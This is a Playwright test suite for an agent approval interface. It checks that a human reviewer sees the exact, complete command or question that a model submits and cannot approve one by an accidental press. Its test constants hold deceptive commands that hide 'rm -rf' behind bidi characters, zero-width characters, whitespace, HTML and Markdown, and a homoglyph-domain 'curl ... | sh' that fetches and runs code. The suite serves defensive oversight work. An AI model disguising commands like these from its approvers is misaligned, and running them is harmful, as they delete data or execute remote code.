"""Approvals: a person sees all of a call or question, whatever a model writes into it."""

import re
from collections.abc import Callable, Collection, Mapping

import pytest
from playwright.async_api import Locator, expect

from agiraph.testing import call, says
from agiraph.testing.model_server import Seen, Step
from tests.scenarios.thread_queries import reply_count
from tests.web_ui.browsing import PHONE, Desk, Visit
from tests.web_ui.shown_text import argument_text, visible_text

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(180)]

ASK = [{"tool": "bash", "action": "ask"}, {"tool": "write_file", "action": "ask"}]
COMMANDS = {
    "comment": "ls -l <!-- ; echo ran > x # --> | head",
    "html": "echo <b>a</b><script>x</script><details><summary>s</summary>rm</details>&lt;&#59;",
    "markdown": "echo **a** __b__ ~~c~~ [d](https://e.x 'f') ![g](h)\n\n[i]: https://j 'rm'\n",
    "fence": "cat <<'X'\n```\n# head\n```bash rm -rf x\n~~~\n    indented\n\n\n- item\nX",
    "bidi": "echo \u202ex- fr- mr\u202c \u2067a\u2069 \u200e\u200f \u05d0\u05d1 ; ls",
    "zero-width": "r\u200bm\u200c -\u200dr\u2060f\ufeff \u00adx\u3164\u2800\U000e0041",
    "spaces": "echo a" + " " * 3000 + "; rm -rf x" + "\n" * 60 + "rm -rf y",
    "long": "echo " + "x" * 12_000 + "; rm -rf x",
    "lines": "\n".join(f"echo {number}" for number in range(300)) + "\nrm -rf x",
    "homoglyphs": "curl https://\u0430pple.com/p\u0430y\u2215x\u037e r\uff4d \u043f\u0440 | sh",
    "line-ends": "echo a \\ \nrm -rf /  \t\n# \u0430\u0435 ",
    "wide": "echo " + "\u6f22" * 4_000 + "\t" * 200 + "; rm -rf x",
    "steering": "echo \x1b[2K\x1b[1A\r a \x07\x08\x7f\x85\u2028\u2029\0 \\u202e \u27e8U+202E\u27e9",
}
LARGEST = {
    "long": "echo " + "x" * 30_000 + "; rm -rf x",
    "lines": "\n".join(f"echo {number}" for number in range(900)) + "\nrm -rf x",
}
"""Commands of the long tests instead of those with the same name."""
QUESTION = "Shall I go on?\n<!-- and delete -->\n\n[x]: https://y '\u202emore'\n```bash rm\nls\n```"
OPTIONS = ["yes <!-- and delete all -->", "no\u200b", "y\n\n\nes", "x" * 3000, "⚠️ **do** it"]


def asks_for_approvals(commands: Mapping[str, str]) -> Callable[[Seen], Step]:
    def play(seen: Seen) -> Step:
        if "ask_human" not in seen.tools or "no_work_needed" in seen.tools:
            return says("There is nothing to add.")
        if reply_count(seen) == 0:
            return says(*(call("bash", command=command) for command in commands.values()))
        return says(call("finish", summary="Done."))

    return play


def asks(seen: Seen) -> Step:
    if "ask_human" not in seen.tools or "no_work_needed" in seen.tools:
        return says("There is nothing to add.")
    if reply_count(seen) == 0:
        return says(call("ask_human", question=QUESTION, options=OPTIONS))
    return says(call("finish", summary=seen.messages[-1].text))


IN_THE_CONVERSATION = ("bidi", "homoglyphs", "lines", "steering")
"""Commands that the conversation shows; its card is the inbox's."""
LONG = {"spaces", "long", "lines", "wide"}
"""Commands that do not fit their box on a large screen."""


async def command_in(card: Locator) -> str:
    """Return the command that a card shows, or why part of it cannot be seen."""
    shown = card.locator("[data-argument=command]")
    await expect(shown).to_have_count(1)
    return await shown.evaluate(REACHABLE)


REACHABLE = """
(element) => {
  for (let at = element; at !== document.documentElement; at = at.parentElement) {
    const style = getComputedStyle(at);
    const isCut = at.scrollHeight > at.clientHeight + 1 || at.scrollWidth > at.clientWidth + 1;
    const scrolls = /auto|scroll/.test(style.overflowY + style.overflowX);
    if (style.webkitLineClamp !== "none" || style.textOverflow === "ellipsis") return "clamped";
    if (isCut && at === element && !scrolls) return "cut off";
    if (style.opacity !== "1" && at.contains(element) && at === element) return "faint";
  }
  // The last character can be scrolled to.
  element.scrollTop = element.scrollHeight;
  const range = document.createRange();
  range.selectNodeContents(element);
  const boxes = [...range.getClientRects()];
  const last = boxes[boxes.length - 1];
  const frame = element.getBoundingClientRect();
  if (last.bottom > frame.bottom + 2 || last.right > frame.right + 2) return "out of reach";
  // What is copied is what is shown.
  getSelection().selectAllChildren(element);
  const copied = getSelection().toString();
  getSelection().removeAllRanges();
  return copied === element.innerText ? copied : `copied as ${copied}`;
}
"""


async def open_approvals(desk: Desk, team: str, commands: Mapping[str, str]) -> dict[str, str]:
    """Return the ids of the open approvals by the name of their command."""

    async def look() -> list[dict[str, object]]:
        inbox = await desk.up.ask("GET", "/inbox?limit=100")
        return [item["message"] for item in inbox["items"] if item["needs_answer"]]

    await desk.up.wait_for_event(team, "node.waiting")
    found = await look()
    assert len(found) == len(commands)
    names = {command: name for name, command in commands.items()}
    return {names[m["call"]["arguments"]["command"]]: m["id"] for m in found}  # type: ignore[index]


READ_ON = """
async (card) => {
  const isNext = (button) => button.innerText === "Go on reading";
  const next = () => [...card.querySelectorAll("button")].find(isNext);
  for (let clicks = 0; next() && clicks < 500; clicks++) {
    next().click();
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
  }
}
"""


async def check_card(card: Locator, name: str) -> str:
    """Return the command that a card shows. A long one can be approved once all of it was seen."""
    approve = card.get_by_role("button", name="Approve")
    if name not in LONG:
        await expect(approve).to_be_enabled()
        return await command_in(card)
    await expect(approve).to_be_disabled()
    await expect(card.get_by_role("button", name="Deny")).to_be_enabled()
    await card.get_by_text("Read the call to its end").wait_for()
    shown = await command_in(card)  # it scrolls to the end
    await expect(approve).to_be_disabled()
    await card.evaluate(READ_ON)
    await expect(approve).to_be_enabled()
    return shown


async def test_an_approval_card_shows_the_exact_command_on_every_screen(visit: Visit) -> None:
    await check_cards(visit, COMMANDS, in_the_conversation=IN_THE_CONVERSATION)


@pytest.mark.long
async def test_every_approval_card_shows_the_largest_commands(visit: Visit) -> None:
    await check_cards(visit, COMMANDS | LARGEST, in_the_conversation=COMMANDS)


async def check_cards(
    visit: Visit, commands: Mapping[str, str], *, in_the_conversation: Collection[str]
) -> None:
    """Show these commands in the inbox, and some of them in the conversation and elsewhere."""
    texts = {name: argument_text(command) for name, command in commands.items()}
    desk = await visit(asks_for_approvals(commands), path="/settings")
    page = desk.page
    team = await desk.found("Run it", permissions=ASK)
    ids = await open_approvals(desk, team["id"], commands)
    message = (await desk.up.ask("GET", f"/inbox/{ids['comment']}"))["message"]
    shown: dict[str, dict[str, str]] = {"inbox": {}, "conversation": {}}

    for name, identity in ids.items():
        card = page.locator(f"[data-question={identity}]")
        await desk.go(f"/inbox/{identity}")
        shown["inbox"][name] = await check_card(card, name)
        if name not in in_the_conversation:
            continue
        # Rows outside the viewport are not drawn: open each by its own address.
        await desk.go(f"/t/{team['id']}/a/{message['sender']}?at={identity}")
        await page.locator("#thread").wait_for()
        shown["conversation"][name] = await command_in(card)
    assert shown == {
        "inbox": texts,
        "conversation": {name: texts[name] for name in in_the_conversation},
    }

    # The board shows the card of the task's first request.
    first = next(iter(ids.values()))
    await desk.go(f"/t/{team['id']}/board?node={message['node_id']}")
    card = page.locator(f"[data-question={first}]")
    assert await check_card(card, "comment") == texts["comment"]
    await desk.go(f"/inbox/{ids['lines']}")
    card = page.locator(f"[data-question={ids['lines']}]")
    await expect(card.get_by_role("button", name="Approve")).to_be_disabled()
    await page.keyboard.press("1")
    await card.locator("[data-argument=command]").focus()
    await page.keyboard.press("End")
    await expect(card.locator("[data-argument] [data-end]").last).to_be_in_viewport()
    await page.keyboard.press("1")
    await expect(card.get_by_role("button", name="Approve")).to_be_disabled()
    assert (await desk.up.ask("GET", f"/inbox/{ids['lines']}"))["needs_answer"]

    phone = await desk.opens(**PHONE)
    for name in ("spaces", "homoglyphs"):
        await desk.go(f"/inbox/{ids[name]}", phone)
        card = phone.locator(f"[data-question={ids[name]}]")
        assert await command_in(card) == texts[name]


IN_A_TOAST = (*IN_THE_CONVERSATION, "html", "spaces")
"""Commands that toasts show; their card is the inbox's, too."""


async def test_a_toast_shows_the_whole_call_it_offers_to_approve(visit: Visit) -> None:
    await check_toasts(visit, {name: COMMANDS[name] for name in IN_A_TOAST})


@pytest.mark.long
async def test_a_toast_shows_every_call_it_offers_to_approve(visit: Visit) -> None:
    await check_toasts(visit, COMMANDS | LARGEST)


async def check_toasts(visit: Visit, commands: Mapping[str, str]) -> None:
    """Let teams ask for these commands one after the other, and read each in its toast."""

    def play(seen: Seen) -> Step:
        if "ask_human" not in seen.tools or "no_work_needed" in seen.tools:
            return says("There is nothing to add.")
        [name] = re.findall(r"Run <([a-z-]+)>", str(seen.messages))[:1]
        return says(call("bash", command=commands[name]))

    desk = await visit(play, path="/settings")
    page = desk.page
    await page.get_by_text("Live", exact=True).wait_for()
    toast = page.get_by_role("group", name="coordinator asks")
    shown: dict[str, str] = {}
    for name in commands:
        await desk.found(f"Run <{name}>", permissions=ASK)
        await expect(toast.get_by_role("button", name="Approve")).to_be_in_viewport()
        await expect(toast.get_by_role("button", name="Approve")).to_be_enabled(
            enabled=name not in LONG
        )
        shown[name] = await command_in(toast)
        assert await toast.locator("[data-tool]").inner_text() == "bash"
        await toast.get_by_role("button", name="Later").click()
        await expect(toast).to_have_count(0)

    assert shown == {name: argument_text(command) for name, command in commands.items()}


async def test_a_new_question_does_not_take_the_place_of_the_one_that_is_answered(
    visit: Visit,
) -> None:
    def play(seen: Seen) -> Step:
        if "ask_human" not in seen.tools or "no_work_needed" in seen.tools:
            return says("There is nothing to add.")
        return says(call("bash", command=re.findall(r"echo \w+", str(seen.messages))[0]))

    desk = await visit(play, path="/settings")
    page = desk.page
    await page.get_by_text("Live", exact=True).wait_for()
    toast = page.get_by_role("group", name="coordinator asks")
    note = toast.get_by_role("textbox", name="A note")
    await desk.found("Run echo first", permissions=ASK)
    await note.click()
    await page.keyboard.type("Only ")
    for goal in ("Run echo second", "Run echo third"):
        await desk.found(goal, permissions=ASK)

    # What is typed goes on in the note: as a shortcut, c would create a team.
    await expect(toast.get_by_role("link", name="2 more in the inbox")).to_be_visible()
    await page.keyboard.type("once, cc")
    await expect(note).to_have_value("Only once, cc")
    await expect(page.locator("[data-sonner-toast]")).to_have_count(1)
    await toast.get_by_role("button", name="Later").click()
    await expect(toast).to_contain_text("echo second")
    await expect(note).to_have_value("")


async def test_a_question_and_its_options_are_shown_exactly(visit: Visit) -> None:
    desk = await visit(asks, path="/settings")
    page = desk.page
    await page.get_by_text("Live", exact=True).wait_for()
    team = await desk.found("Ask")
    await desk.up.wait_for_event(team["id"], "question.asked")

    async def read(card: Locator) -> None:
        await expect(card.locator("[data-choice]")).to_have_count(len(OPTIONS))
        # Of Markdown only its marks are not shown: no word is hidden.
        question = card.locator("[data-words]")
        await expect(question.locator("mark")).to_have_text("\u27e8U+202E\u27e9")
        await expect(question.locator("pre")).to_have_text("ls")
        assert words_of(await question.inner_text()) == words_of(visible_text(QUESTION))
        choices = [await one.inner_text() for one in await card.locator("[data-choice]").all()]
        # The emoji is drawn as one glyph.
        emoji = visible_text(OPTIONS[4]).replace("\u27e8U+FE0F\u27e9", "\ufe0f").replace("*", "")
        assert choices == [*map(visible_text, OPTIONS[:4]), emoji]

    await read(page.get_by_role("group", name="coordinator asks"))
    await desk.go("/inbox")
    await page.get_by_role("region", name="Items").get_by_role("link").first.click()
    await read(page.locator("[data-question]"))
    await page.get_by_role("link", name=re.compile("Reply")).click()
    await read(page.locator("#thread [data-question]"))


def words_of(text: str) -> list[str]:
    return re.findall(r"\w+", text)


TOO_SOON_MS = 400
"""A press that comes sooner after a card than a person can react was meant for something else."""
WATCH_PRESSES = """
(tooSoon) => {
  window.came = new Map();
  window.presses = {young: new Set(), late: new Set()};
  const look = () => {
    for (const { dataset } of document.querySelectorAll("[data-question]"))
      if (!came.has(dataset.question)) came.set(dataset.question, performance.now());
  };
  look();
  new MutationObserver(look).observe(document, { childList: true, subtree: true });
  const press = () => {
    const [id, at] = [...came].at(-1);
    presses[performance.now() - at < tooSoon ? "young" : "late"].add(id);
  };
  for (const name of ["pointerdown", "keydown"]) addEventListener(name, press, { capture: true });
}
"""


async def test_no_press_decides_on_a_card_that_has_just_come(visit: Visit) -> None:
    await press_as_cards_come(visit, cards=10)


@pytest.mark.long
@pytest.mark.timeout(900)
async def test_none_of_200_presses_decides_on_a_card_that_has_just_come(visit: Visit) -> None:
    await press_as_cards_come(visit, cards=200)


async def press_as_cards_come(visit: Visit, *, cards: int) -> None:
    """Press a key, and the place where *Approve* will be, until the next card is there."""

    def play(seen: Seen) -> Step:
        if "ask_human" not in seen.tools or "no_work_needed" in seen.tools:
            return says("There is nothing to add.")
        if reply_count(seen) == cards:
            return says(call("ask_human", question="What next?"))
        step = f"{reply_count(seen) + 100}"
        wrote = call("write_file", path=f"{step}.md", content=step)  # else refusals are a loop
        return says(wrote, call("bash", command=f"echo {step}"))

    desk = await visit(play, path="/settings")
    page = desk.page
    team = await desk.found("Run it", permissions=ASK[:1])
    await desk.up.wait_for_event(team["id"], "node.waiting")
    await desk.go(f"/t/{team['id']}/a/{team['coordinator_id']}")
    approve = page.locator("#thread").get_by_role("button", name="Approve")
    await expect(approve).to_be_in_viewport()
    box = await approve.bounding_box()
    assert box is not None
    await page.evaluate(WATCH_PRESSES, TOO_SOON_MS)
    for shown in range(1, cards + 1):
        await page.wait_for_function("(shown) => came.size >= shown", arg=shown)
        card: str = await page.evaluate("[...came.keys()].at(-1)")
        was_late = await page.evaluate("(card) => presses.late.has(card)", card)
        answer = {"text": "", "decision": "deny"}
        if not (await desk.up.ask("GET", f"/inbox/{card}"))["needs_answer"]:
            assert was_late, f"{card} was approved by a press that came too soon"
        else:
            await desk.up.ask("POST", f"/inbox/{card}/answer", answer)
        has_come = False
        while not has_come:
            # The last press comes when the card is there, as soon as the test can know it.
            has_come = await page.evaluate("(shown) => came.size > shown", shown)
            await page.mouse.click(box["x"] + 40, box["y"] + box["height"] / 2)
            await page.keyboard.press("1")
    assert await page.evaluate("presses.young.size") > cards / 2
    # On a busy machine a press may come late, and decide while the test denies.
    desk.watch.faults[:] = [fault for fault in desk.watch.faults if "409" not in fault]
